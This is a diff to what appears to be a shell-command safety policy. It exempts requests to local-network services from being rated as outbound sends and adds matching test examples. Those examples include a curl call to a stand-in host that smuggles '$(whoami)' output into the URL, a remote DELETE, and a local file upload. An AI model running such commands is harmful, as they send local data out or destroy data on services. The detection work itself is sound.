@@ -21,7 +21,7 @@ from typing import Final
 
 from gatesh._types import Facts, Finding, Outcome, SimpleCommand
 from gatesh.policy._rules import Rule, inline_code, reads_program_from_stdin
-from gatesh.policy.sends import SENDS, argv_of, package_sends
+from gatesh.policy.sends import SENDS, argv_of, local_service_request, package_sends
 from gatesh.vocab.grammar import Grammar, Options, grammar_of, parse, read
 from gatesh.vocab.hosts import host_of, hosts_in, is_loopback, is_public_index
 from gatesh.vocab.programs.interpreters import is_interpreter
@@ -93,7 +93,10 @@ def _open_world(cmd: SimpleCommand, facts: Facts) -> bool:
         a.startswith(("s3://", "gs://")) for a in cmd.args
     ):
         return sends(cmd)  # a bucket is the remote side whatever the verb
-    if not any(not is_loopback(h) for h in command_hosts(cmd, facts)):
+    hosts = list(command_hosts(cmd, facts))
+    if not any(not is_loopback(h) for h in hosts):
+        return False
+    if local_service_request(cmd, hosts):
         return False
     if sends is package_sends and _installs_from_public_indexes(cmd):
         return False  # judged like an install from the default index: rated, not floored
@@ -367,9 +370,15 @@ RULES: Final[tuple[Rule, ...]] = (
             'curl "https://x.example/?q=$(whoami)"',
             'curl -s "$API_URL/users"',
             "rclone copy ./out remote:bk",
+            # to the local network: a DELETE, or a local file sent
+            "curl -X DELETE http://api:8000/items/1",
+            "curl -F f=@a.txt http://10.0.0.7/upload",
         ),
         counter=(
             "curl http://localhost:8080/health",
+            # a request to a service of the local network, its body written in the command
+            "curl -X PUT http://api:8000/sheets/1 -d '{\"value\": 1}'",
+            "http POST 192.168.1.20:8080/items name=x",
             "git push origin main",
             "pip install requests",
             "ssh -V",
